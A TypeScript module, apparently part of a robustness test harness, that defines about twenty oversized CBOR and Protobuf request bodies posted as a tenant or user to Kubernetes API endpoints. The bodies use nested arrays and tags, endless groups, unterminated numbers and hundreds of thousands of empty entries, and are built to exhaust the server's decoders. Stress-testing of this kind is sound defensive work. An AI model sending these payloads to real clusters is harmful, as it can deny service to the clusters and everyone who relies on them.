import type { Attack } from '../attack.ts';
import { ACCESS_REVIEWS, bodyRequest, DRY_MAPS, posted } from '../bodies.ts';

const CBOR = 'application/cbor';
const PROTOBUF = 'application/vnd.kubernetes.protobuf';

const repeated = (bytes: readonly number[], count: number): Buffer =>
  Buffer.alloc(bytes.length * count, Buffer.from(bytes));
const SELF_DESCRIBED = Buffer.from([0xd9, 0xd9, 0xf7]);
const cbor = (...parts: readonly (readonly number[] | Buffer)[]): Buffer =>
  Buffer.concat([SELF_DESCRIBED, ...parts.map((part) => Buffer.from(part))]);

function ofCbor(name: string, sends: string, n: number, body: (n: number) => Buffer): Attack {
  return posted('user', ACCESS_REVIEWS, CBOR, name, sends, n, body);
}

/** A number as a varint. */
function varint(value: number): number[] {
  return value < 128 ? [value] : [(value % 128) + 128, ...varint(Math.floor(value / 128))];
}

function field(number: number, content: Buffer): Buffer {
  return Buffer.concat([Buffer.from([...varint(number * 8 + 2), ...varint(content.length)]), content]);
}

/** The envelope around an object of the built-in kinds. */
function envelope(apiVersion: string, kind: string, raw: Buffer): Buffer {
  const type = Buffer.concat([field(1, Buffer.from(apiVersion)), field(2, Buffer.from(kind))]);
  return Buffer.concat([Buffer.from('k8s\0'), field(1, type), field(2, raw)]);
}

function ofProtobuf(name: string, sends: string, n: number, raw: (n: number) => Buffer): Attack {
  return {
    name,
    sends,
    caller: 'tenant',
    n,
    request: (size) => bodyRequest('POST', DRY_MAPS, PROTOBUF, envelope('v1', 'ConfigMap', raw(size))),
  };
}

const metadata = (...parts: readonly Buffer[]): Buffer => field(1, Buffer.concat(parts));
const named = field(1, Buffer.from('a'));

/** The largest body has about 3 MB. */
export const attacks: readonly Attack[] = [
  ofCbor('CBOR empty chunks', 'a text of 2.9 million empty chunks', 725_000, (n) =>
    cbor([0x7f], repeated([0x60], n), [0xff]),
  ),
  ofCbor('CBOR empty byte chunks', 'the same of bytes', 725_000, (n) =>
    cbor([0x5f], repeated([0x40], n), [0xff]),
  ),
  ofCbor('CBOR arrays', 'nested arrays', 725_000, (n) => cbor(repeated([0x81], n))),
  ofCbor('CBOR maps', 'nested maps', 360_000, (n) => cbor(repeated([0xa1, 0x40], n))),
  ofCbor('CBOR tags', 'tags of tags', 725_000, (n) => cbor(repeated([0xc1], n))),
  ofCbor('CBOR empty items', 'a list of empty maps', 725_000, (n) =>
    cbor([0x9f], repeated([0xa0], n), [0xff]),
  ),
  ofCbor('CBOR numbers', 'a list of numbers', 725_000, (n) => cbor([0x9f], repeated([0x01], n), [0xff])),
  ofCbor('CBOR repeated keys', 'one key without end', 240_000, (n) =>
    cbor([0xbf], repeated([0x41, 0x61, 0x01], n), [0xff]),
  ),
  ofCbor('CBOR lengths', 'lengths that are not there', 80_000, (n) =>
    cbor(repeated([0x9b, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff], n)),
  ),
  ofCbor('CBOR large integers', 'a whole number of 3 MB', 725_000, (n) =>
    cbor([0xc2, 0x5a, (n >> 24) & 255, (n >> 16) & 255, (n >> 8) & 255, n & 255], repeated([0xff], n)),
  ),
  ofProtobuf('Protobuf empty entries', '900,000 empty map entries', 360_000, (n) =>
    Buffer.concat([metadata(named), repeated([0x12, 0x00], n)]),
  ),
  ofProtobuf('Protobuf labels', 'empty entries of labels', 360_000, (n) =>
    metadata(named, repeated([0x5a, 0x00], n)),
  ),
  ofProtobuf('Protobuf repeated metadata', 'metadata without end', 360_000, (n) => repeated([0x0a, 0x00], n)),
  ofProtobuf('Protobuf repeated names', 'names without end', 240_000, (n) =>
    metadata(repeated([0x0a, 0x01, 0x61], n)),
  ),
  ofProtobuf('Protobuf unknown fields', 'fields that nobody knows', 360_000, (n) =>
    Buffer.concat([metadata(named), repeated([0x78, 0x01], n)]),
  ),
  ofProtobuf('Protobuf groups', 'groups without end', 725_000, (n) => repeated([0x7b], n)),
  ofProtobuf('Protobuf long numbers', 'a number that does not end', 725_000, (n) =>
    Buffer.concat([Buffer.from([0x78]), repeated([0xff], n)]),
  ),
  ofProtobuf('Protobuf finalizers', 'empty finalizers', 240_000, (n) =>
    metadata(named, repeated([0x72, 0x01, 0x61], n)),
  ),
  ofProtobuf('Protobuf owners', 'empty owner references', 360_000, (n) =>
    metadata(named, repeated([0x6a, 0x00], n)),
  ),
  ofProtobuf('Protobuf managers', 'empty managers', 240_000, (n) =>
    metadata(named, repeated([0x8a, 0x01, 0x00], n)),
  ),
  ofProtobuf('Protobuf data keys', 'keys by the hundred thousand', 60_000, (n) =>
    Buffer.concat([
      metadata(named),
      ...Array.from({ length: n }, (_, i) => field(2, field(1, Buffer.from(`k${i}`)))),
    ]),
  ),
];
